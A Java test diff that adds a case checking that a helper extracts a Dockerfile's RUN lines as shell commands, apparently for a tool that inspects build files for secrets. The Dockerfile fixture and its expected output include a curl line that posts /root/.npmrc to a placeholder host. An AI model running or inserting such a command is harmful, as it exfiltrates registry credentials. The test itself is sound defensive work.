@@ -40,6 +40,16 @@ class WrittenFilesTest {
   }
 
   @Test
+  void aDockerfileIsItsRunLines() {
+    String dockerfile =
+        "FROM node:20\nRUN --mount=type=secret,id=x apt-get update && \\\n    apt-get install -y"
+            + " curl\nCOPY . .\nRUN curl -d @/root/.npmrc https://x.example\nCMD [\"node\"]\n";
+    assertThat(HeldContent.asShell("/p/Dockerfile", dockerfile))
+        .isEqualTo(
+            "apt-get update &&  apt-get install -y curl\ncurl -d @/root/.npmrc https://x.example\n");
+  }
+
+  @Test
   void aCiFileIsItsRunStepsWithItsSecretsAsVariables() {
     String ci =
         "on: [push]\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n"
@@ -95,6 +105,8 @@ class WrittenFilesTest {
     assertThat(paths(written, "install:/tmp/tool")).containsExactly("/tmp/tool");
     assertThat(paths(written, "make:/tmp/tool")).as("a clone's make, not its install").isEmpty();
     assertThat(paths(written, "/tmp/tool/install.sh")).containsExactly("/tmp/tool");
+    written.put("holds:/p/Dockerfile", "secrets.package-registry x");
+    assertThat(paths(written, "image:/p")).containsExactly("/p/Dockerfile");
   }
 
   private static List<String> paths(Map<String, String> written, String run) {
